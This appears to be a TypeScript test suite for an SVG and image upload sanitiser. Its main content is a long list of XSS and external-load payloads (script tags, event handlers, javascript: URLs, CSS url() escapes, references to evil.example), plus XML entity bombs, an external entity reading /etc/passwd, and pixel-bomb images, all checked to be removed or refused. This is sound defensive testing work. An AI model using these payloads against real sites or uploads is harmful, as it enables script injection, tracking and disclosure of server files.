import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { readDrawing, uploadType, type UploadType } from './drawing.ts';
import { sanitise } from './sanitise.ts';
import { cleanSvg } from './svg.ts';
import { frameOf, staysInside } from './svg-rules.ts';

const NS =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ev="http://www.w3.org/2001/xml-events"';
const svg = (inside: string, attributes = 'viewBox="0 0 10 10"') =>
  `<svg ${NS} ${attributes}>${inside}<rect id="kept" width="1" height="1"/></svg>`;

// Written down here on purpose, apart from the lists of the sanitiser.
const HARMLESS = new Set(
  (
    'svg g defs symbol use path rect circle ellipse line polyline polygon text tspan textPath linearGradient ' +
    'radialGradient stop clipPath mask pattern marker style'
  ).split(' '),
);
const OUTWARD = /[\\@<]|javascript|data:|https?:|\/\/|image|src\s*\(|url\s*\((?!\s*["']?#)/i;

const { DOMParser, NodeFilter } = new JSDOM('').window;

/** What a browser could be made to run or load by this drawing. */
function dangersIn(text: string): string[] {
  const document = new DOMParser().parseFromString(text, 'image/svg+xml');
  const found: string[] = [];
  for (const element of document.querySelectorAll('*')) {
    if (!HARMLESS.has(element.nodeName)) found.push(`<${element.nodeName}>`);
    if (element.namespaceURI !== 'http://www.w3.org/2000/svg')
      found.push(`${element.nodeName} of ${element.namespaceURI}`);
    if (element.nodeName === 'style' && OUTWARD.test(element.textContent)) found.push(element.textContent);
    for (const { name, value } of Array.from(element.attributes, (attribute) => attribute)) {
      if (['xmlns', 'id', 'class'].includes(name)) continue;
      const outward = name.endsWith('href') ? !value.startsWith('#') : OUTWARD.test(value);
      if (/^on|:/i.test(name) || outward) found.push(`${name}="${value}"`);
    }
  }
  const others = document.createNodeIterator(
    document,
    NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION,
  );
  for (let node = others.nextNode(); node; node = others.nextNode()) found.push(node.nodeName);
  return found;
}

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script xlink:href="https://evil.example/x.js"/>',
  '<script href="data:text/javascript,alert(1)"/>',
  '<g><g><script type="text/ecmascript"><![CDATA[alert(1)]]></script></g></g>',
  '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
  '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<handler type="application/ecmascript" ev:event="load">alert(1)</handler>',
  '<rect onload="alert(1)"/>',
  '<rect onclick="alert(1)" ONMOUSEOVER="alert(1)"/>',
  '<g onfocusin="alert(1)" tabindex="1" autofocus="1"><path d="M0 0"/></g>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<object xmlns="http://www.w3.org/1999/xhtml" data="https://evil.example/x.svg"/>',
  '<a href="javascript:alert(1)"><text>click</text></a>',
  '<a xlink:href="&#106;avascript:alert(1)"><circle r="9"/></a>',
  '<a xlink:href="java&#10;script:alert(1)"><circle r="9"/></a>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIgb25sb2FkPSJhbGVydCgxKSIvPg==#a"/>',
  '<use href="//evil.example/x.svg#a"/>',
  '<use href=" #a"/>',
  '<image href="https://evil.example/beacon.png"/>',
  '<image xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>',
  '<feImage href="https://evil.example/x.png"/>',
  '<filter id="f"><feImage xlink:href="https://evil.example/x.png"/></filter><rect filter="url(#f)"/>',
  '<animate xlink:href="#kept" attributeName="href" values="javascript:alert(1)"/>',
  '<set attributeName="onmouseover" to="alert(1)"/>',
  '<use id="u" href="#kept"><animate attributeName="href" to="https://evil.example/#a" begin="0s"/></use>',
  '<animateTransform onbegin="alert(1)" attributeName="transform"/>',
  '<animateMotion><mpath href="https://evil.example/#p"/></animateMotion>',
  '<discard onbegin="alert(1)"/>',
  '<style>@import url("https://evil.example/x.css");</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  String.raw`<style>\40 import "https://evil.example/x.css";</style>`,
  '<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) }</style>',
  '<style>rect { fill: url(https://evil.example/x.svg#a) }</style>',
  '<style>rect { fill: URL( "https://evil.example/x.svg#a" ) }</style>',
  '<style>rect { fill: url(#ok); mask: url(/x.svg) }</style>',
  String.raw`<style>rect { mask: \75rl(https://evil.example/x) }</style>`,
  '<style>rect { mask: image-set("https://evil.example/x.png" 1x) }</style>',
  '<style>rect { mask: url(https://evil.example/x </style>',
  '<style><![CDATA[ rect { mask: src("https://evil.example/x") } </style><script>alert(1)</script> ]]></style>',
  '<style>rect { -moz-binding: url(https://evil.example/x.xml#a) } g { behavior: url(x.htc) }</style>',
  '<rect style="background: url(https://evil.example/x.png)"/>',
  String.raw`<rect style="fill: u\72l(https://evil.example/x.png)"/>`,
  '<rect style="mask: url(&quot;https://evil.example/#a&quot;)"/>',
  '<rect fill="url(https://evil.example/#a)"/>',
  '<rect fill="url(#ok) url(https://evil.example/#a)"/>',
  String.raw`<rect mask="\75 rl(https://evil.example/#a)"/>`,
  '<rect mask="url(#a"/><rect clip-path="url(//evil.example/#a)"/>',
  '<rect cursor="url(https://evil.example/x.cur), auto"/>',
  '<text><textPath href="https://evil.example/#p">x</textPath></text>',
  '<linearGradient id="g" xlink:href="https://evil.example/#g"/>',
  '<pattern href="https://evil.example/#p"><path d="M0 0"/></pattern>',
  '<rect xml:base="https://evil.example/" fill="red"/>',
  '<tref xlink:href="https://evil.example/x.svg#t"/>',
  '<font-face-uri xlink:href="https://evil.example/x.svg#f"/>',
  '<desc><script>alert(1)</script></desc><title><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></title>',
  '<metadata><x xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"/></metadata>',
  '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script>alert(1)</script></mtext></math>',
  '<switch><foreignObject/><rect onload="alert(1)"/></switch>',
  '<?xml-stylesheet href="https://evil.example/x.css"?><!-- <script>alert(1)</script> -->',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<rect data-x="&lt;script&gt;alert(1)&lt;/script&gt;" aria-label="javascript:alert(1)"/>',
  '<audio xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/><video href="https://evil.example/v.mp4"/>',
  '<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="attributes"/></form>',
];

/** Random drawings; more of them in `npm run proof`. */
const RUNS = process.env['ATRIUM_PROOF'] === '1' ? 1000 : 100;

describe('a hostile SVG', () => {
  test.each(ATTACKS)('is harmless afterwards: %s', (attack) => {
    expect(dangersIn(svg(attack))).not.toEqual([]);
    const verdict = sanitise(svg(attack));
    if (!verdict.ok) throw new Error(`refused: ${verdict.detail}`);
    expect(dangersIn(verdict.svg)).toEqual([]);
    expect(verdict.svg).toContain('id="kept"');
    // Nothing is lost the second time.
    expect(sanitise(verdict.svg)).toEqual({ ...verdict, lost: [] });
  });

  test('hidden in the root or around it goes too', () => {
    const root = `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?><!-- x -->
      <svg ${NS} onload="alert(1)" style="background: url(https://evil.example/)" width="3" height="4"><path d="M0 0"/></svg>`;
    expect(sanitise(root)).toEqual({
      ok: true,
      svg: '<svg xmlns="http://www.w3.org/2000/svg" width="3" height="4" viewBox="0 0 3 4"><path d="M0 0"/></svg>',
      width: 3,
      height: 4,
      lost: ['style background', 'onload'],
    });
  });

  test('put together at random is harmless or refused', () => {
    const names = [
      'g',
      'use',
      'a',
      'style',
      'script',
      'foreignObject',
      'image',
      'set',
      'text',
      'svg',
      'h:img',
      'SCRIPT',
      'pattern',
    ];
    const values = [
      '#kept',
      'javascript:alert(1)',
      'url(#a)',
      'url(//x)',
      '@import "x"',
      'data:image/png,',
      String.raw`\75rl(x)`,
      'red',
      '&#x61;',
    ];
    const attribute = fc.tuple(
      fc.constantFrom(
        'href',
        'xlink:href',
        'onload',
        'style',
        'fill',
        'id',
        'class',
        'h:onclick',
        'mask',
        'd',
        'xml:base',
      ),
      fc.constantFrom(...values),
    );
    const { tree } = fc.letrec<{ tree: string; node: string }>((tie) => ({
      tree: fc.array(tie('node'), { maxLength: 4 }).map((nodes) => nodes.join('')),
      node: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        fc.constantFrom('text', '<![CDATA[</style><script>]]>', '<!-- x -->', '<?x y?>', '&lt;script&gt;', ...values),
        fc
          .tuple(
            fc.constantFrom(...names),
            fc.uniqueArray(attribute, { maxLength: 3, selector: ([name]) => name }),
            tie('tree'),
          )
          .map(([name, attributes, inside]) => {
            const written = attributes.map(([key, value]) => ` ${key}="${value.replaceAll('"', '&quot;')}"`);
            return `<${name}${written.join('')}>${inside}</${name}>`;
          }),
      ),
    }));
    let kept = 0;
    fc.assert(
      fc.property(tree, (inside) => {
        const verdict = sanitise(svg(inside, 'xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 10 10"'));
        if (!verdict.ok) return;
        kept += 1;
        expect(dangersIn(verdict.svg)).toEqual([]);
        expect(sanitise(verdict.svg)).toEqual({ ...verdict, lost: [] });
      }),
      { numRuns: RUNS },
    );
    expect(kept).toBeGreaterThan(RUNS / 2);
  });
});

test('an honest SVG keeps its looks', () => {
  const inside =
    '<defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="#fff"/></linearGradient>' +
    '<pattern id="p" width="2" height="2"><path d="M0 0L2 2"/></pattern><symbol id="chair" viewBox="0 0 4 4"><circle cx="2" r="1"/></symbol></defs>' +
    '<style>.wall { fill: url(#p); stroke-width: 2 } .curl-y &gt; path { fill: none }</style>' +
    '<g id="curlew" class="wall" transform="translate(1 2)" style="fill: url(\'#g\')"><use href="#chair" x="1"/></g>' +
    '<text x="1" font-family="sans-serif">Café <tspan>&lt;3 &amp; 中環</tspan></text>';
  const verdict = sanitise(svg(inside, 'viewBox="0 0 10 10" width="10" height="10"'));
  expect(verdict).toMatchObject({ ok: true, width: 10, height: 10, lost: [] });
  expect(verdict.ok && verdict.svg).toBe(
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" width="10" height="10">${inside}<rect id="kept" width="1" height="1"/></svg>`,
  );
});

test('xlink:href becomes href', () => {
  const verdict = sanitise(svg('<use xlink:href="#kept"/>'));
  expect(verdict.ok && verdict.svg).toContain('<use href="#kept"/>');
});

test.each<[viewBox: string | null, width: string | null, height: string | null, frame: string | null]>([
  ['0 0 100 50', null, null, '0 0 100 50'],
  ['-5,-5, 100.2 , 49.5', '10cm', '5cm', '-5 -5 101 50'],
  [null, '640', '480px', '0 0 640 480'],
  [null, '10cm', '5cm', '0 0 378 189'],
  [null, '210mm', '297mm', '0 0 794 1123'],
  [null, ' 72pt ', '6PC', '0 0 96 96'],
  [null, '1in', '101.6Q', '0 0 96 96'],
  [null, '10em', '5em', null],
  [null, 'mm', '5mm', null],
  [null, '0mm', '5mm', null],
  [null, '100%', '100%', null],
  [null, null, null, null],
  ['0 0 0 10', null, null, null],
  ['0 0 -1 10', null, null, null],
  ['0 0 1e9 10', null, null, null],
  ['0 0 NaN 10', null, null, null],
  ['0 0 0x10 10', null, null, null],
  ['0 0 10', null, null, null],
  ['0 0 10 10 10', null, null, null],
  ['', '10', '10', null],
])('the frame of viewBox %s, width %s, height %s is %s', (viewBox, width, height, expected) => {
  expect(frameOf(viewBox, width, height)?.viewBox ?? null).toBe(expected);
});

test.each(['url(#a)', 'url( "#a-b.c" )', "fill: url('#a'); stroke: red", 'rgb(1 2 3)', 'curlew'])(
  '%s stays inside',
  (value) => {
    expect(staysInside(value)).toBe(true);
  },
);

const read = (type: UploadType, content: string | Uint8Array) => readDrawing(type, Buffer.from(content as string));
const refusalOf = async (type: UploadType, content: string | Uint8Array): Promise<string> => {
  const verdict = await read(type, content);
  return verdict.ok ? 'accepted' : verdict.detail;
};

describe('an upload that is no SVG is refused', () => {
  const bomb = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`;
  const doubling = Array.from(
    { length: 30 },
    (_, i) => `<g id="d${i}"><use href="#d${i + 1}"/><use href="#d${i + 1}"/></g>`,
  );
  const patterns = Array.from(
    { length: 30 },
    (_, i) => `<pattern id="d${i}"><rect fill="url(#d${i + 1})" stroke="url(#d${i + 1})"/></pattern>`,
  );
  test.each<[why: string, content: string, detail: string]>([
    ['an entity nobody defined', svg('&nbsp;'), 'well-formed'],
    ['an open tag', svg('<g>'), 'well-formed'],
    ['two roots', svg('') + svg(''), 'well-formed'],
    ['a prefix nobody declared', svg('<x:g/>'), 'well-formed'],
    ['another root', `<html xmlns="http://www.w3.org/1999/xhtml">${svg('')}</html>`, 'root'],
    ['no namespace', '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>', 'root'],
    ['a foreign namespace', '<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"/>', 'root'],
    ['no size', svg('', ''), 'viewBox'],
    ['nothing to draw', `<svg ${NS} viewBox="0 0 1 1"><script>alert(1)</script><image href="x.png"/></svg>`, 'Nothing'],
    ['parts that double', svg(doubling.join('')), 'too often'],
    ['patterns that double', svg(patterns.join('')), 'too often'],
    ['a part of itself', svg('<g id="a"><use href="#a"/></g>'), 'too often'],
  ])('%s', (_, content, detail) => {
    expect(sanitise(content)).toEqual({ ok: false, detail: expect.stringContaining(detail) });
  });

  test.each<[why: string, content: string | Uint8Array, detail: string]>([
    ['entities', bomb, 'DOCTYPE'],
    ['a DOCTYPE in small letters', `<!doctype svg>${svg('')}`, 'DOCTYPE'],
    ['an external entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`, 'DOCTYPE'],
    ['too many elements', svg('<g/>'.repeat(30_001)), 'elements'],
    ['too deep', svg('<g>'.repeat(101) + '</g>'.repeat(101)), 'deeper'],
    ['too many attributes', svg(`<g ${Array.from({ length: 501 }, (_, i) => `a${i}="1"`).join(' ')}/>`), 'attributes'],
    ['half of UTF-16', Buffer.from([0xff, 0xfe, 0x3c]), 'UTF-16'],
    ['an encoding nobody knows', `<?xml version="1.0" encoding="klingon"?>${svg('')}`, 'declares'],
    ['broken UTF-8', Buffer.from([0x3c, 0xff, 0xfe]), 'UTF-8'],
    ['a NUL', svg('\0'), 'UTF-8'],
    ['plain text', 'hello', 'not an SVG'],
    ['nothing', '', 'not an SVG'],
  ])('%s, before it is parsed', async (_, content, detail) => {
    expect(await refusalOf('image/svg+xml', content)).toContain(detail);
  });
});

test('an SVG comes out of its thread sanitised or refused', async () => {
  expect(await refusalOf('image/svg+xml', svg('<g>'))).toContain('well-formed');
  const verdict = await read('image/svg+xml', `\uFEFF${svg('<script>alert(1)</script>')}`);
  if (!verdict.ok) throw new Error(verdict.detail);
  expect(verdict.drawing).toMatchObject({ mediaType: 'image/svg+xml', width: 10, height: 10 });
  expect(dangersIn(Buffer.from(verdict.drawing.content).toString())).toEqual([]);
});

test('an SVG that takes too long is given up', async () => {
  const large = Buffer.from(svg('<rect width="1" height="1"/>'.repeat(20_000)));
  expect(await cleanSvg(large, { patienceMs: 1 })).toEqual({ ok: false, detail: 'It is too complex' });
});

describe('an image', () => {
  const image = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: '#446' }, limitInputPixels: false });

  test.each([
    ['image/png', () => image(30, 20).png().toBuffer()],
    [
      'image/jpeg',
      () =>
        image(30, 20)
          .withExif({ IFD0: { Copyright: 'secret' } })
          .jpeg()
          .toBuffer(),
    ],
    ['image/webp', () => image(30, 20).webp().toBuffer()],
  ] as const)('of type %s becomes a PNG without its hidden data', async (type, make) => {
    const verdict = await read(type, Buffer.concat([await make(), Buffer.from('<script>alert(1)</script>')]));
    if (!verdict.ok) throw new Error(verdict.detail);
    const { mediaType, width, height, content } = verdict.drawing;
    expect({ mediaType, width, height }).toEqual({ mediaType: 'image/png', width: 30, height: 20 });
    const text = Buffer.from(content).toString('latin1');
    expect(text.startsWith('\x89PNG')).toBe(true);
    expect(text).not.toMatch(/secret|script/);
  });

  test('that is large is scaled down', async () => {
    const verdict = await read('image/png', await image(5000, 100).png().toBuffer());
    expect(verdict.ok && [verdict.drawing.width, verdict.drawing.height]).toEqual([4096, 82]);
  });

  test('of few bytes and many pixels is refused', async () => {
    const bomb = await image(10_000, 4_001).png({ compressionLevel: 9 }).toBuffer();
    expect(bomb.length).toBeLessThan(200_000);
    expect(await refusalOf('image/png', bomb)).toContain('40 million pixels');
  });

  test('whose bytes are of another type, or damaged, is refused', async () => {
    const png = await image(30, 20).png().toBuffer();
    const gif = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64');
    for (const type of ['image/jpeg', 'image/webp'] as const)
      expect(await refusalOf(type, png)).toBe(`It is not ${type}`);
    expect(await refusalOf('image/png', gif)).toBe('It is not image/png');
    expect(await refusalOf('image/png', svg(''))).toBe('It is not image/png');
    expect(await refusalOf('image/png', png.subarray(0, 60))).toBe('It is damaged');
    expect(await refusalOf('image/svg+xml', png)).toBe('It must be text in UTF-8, UTF-16 or the encoding it declares');
    const pretending = Buffer.concat([Buffer.from('RIFF\x10\0\0\0WEBPVP8 ', 'latin1'), Buffer.from(svg(''))]);
    expect(await refusalOf('image/webp', pretending)).toBe('It is damaged');
  });

  test('of another type is not taken', () => {
    expect(uploadType('IMAGE/PNG; charset=x')).toBe('image/png');
    for (const type of ['image/gif', 'image/svg', 'text/html', 'application/json', ''])
      expect(uploadType(type)).toBeUndefined();
  });
});
